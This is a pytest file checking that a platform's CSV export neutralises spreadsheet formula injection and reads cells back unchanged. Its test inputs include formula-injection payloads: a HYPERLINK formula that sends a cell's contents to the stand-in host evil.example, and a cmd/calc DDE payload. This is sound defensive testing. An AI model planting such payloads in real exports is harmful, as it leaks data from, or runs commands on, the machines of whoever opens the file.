"""Every CSV the platform writes keeps formula-like text as text, through one function (issue 25 §4)."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest

import tongban
from tongban.core.csvsafe import cell, read_cell, write_csv

TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
         "'=already", "''@x", "'plain", "plain", "", "食品经营许可", "a=b", "—"]


@pytest.mark.req("DATA-03")
def test_formula_text_is_written_as_text_and_read_back_exactly():
    data = write_csv([[t] for t in TEXTS], header=["=标题"])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=标题"]
    written = [r[0] if r else "" for r in rows[1:]]
    assert not any(w.startswith(("=", "+", "-", "@", "\t", "\r")) for w in written)
    assert [read_cell(w) for w in written] == TEXTS


def test_numbers_booleans_and_none_are_plain():
    assert [cell(v) for v in (-5, 2.5, 0, True, False, None)] == ["-5", "2.5", "0", "true", "false", ""]


@pytest.mark.req("DATA-03")
def test_the_statistics_csv_goes_through_the_same_function():
    from tongban.core.clock import FixedClock
    from tongban.supervision import stats

    period = stats.period_of(clock=FixedClock(datetime(2026, 11, 20, 1, 30, tzinfo=timezone.utc)))
    report = stats.Report(dimension=stats.Dimension.item, period=period,
                          rows=[stats.Row("1", "-1+HYPERLINK(1)", received=1), stats.Row("2", "'=x")])
    lines = list(csv.reader(io.StringIO(stats.to_csv(report).decode("utf-8-sig"))))
    assert [read_cell(line[0]) for line in lines[1:3]] == ["-1+HYPERLINK(1)", "'=x"]
    assert [line[0] for line in lines[1:3]] == ["'-1+HYPERLINK(1)", "''=x"]


def test_no_module_writes_csv_on_its_own():
    """One function writes CSV: a new csv.writer elsewhere would skip the neutralisation."""
    root = Path(tongban.__file__).parent
    writers = [str(p.relative_to(root)) for p in root.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert writers == ["core/csvsafe.py"]
